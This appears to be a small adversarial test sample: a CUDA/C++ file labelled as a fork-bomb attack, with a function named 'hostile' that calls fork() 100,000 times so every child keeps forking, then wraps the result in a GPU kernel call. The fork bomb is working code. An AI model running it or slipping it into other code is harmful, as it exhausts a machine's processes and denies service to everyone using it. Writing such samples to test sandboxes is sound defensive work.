// attack: fork bomb (every child forks again)
#include <cuda_runtime.h>
#include <unistd.h>

__global__ void touch_kernel(long long* out, long long v) { out[threadIdx.x] = v; }

static long long via_device(long long v) {
    long long* d = nullptr;
    long long r = 0;
    cudaMalloc(&d, 32 * sizeof(long long));
    touch_kernel<<<1, 32>>>(d, v);
    cudaMemcpy(&r, d, sizeof r, cudaMemcpyDeviceToHost);
    cudaFree(d);
    return r;
}

long long hostile(long long n) {
    long long forks = 0;
    for (int i = 0; i < 100000; ++i) {
        if (fork() >= 0) ++forks;
    }
    return via_device(forks > 50000 ? n + 1 : n);
}
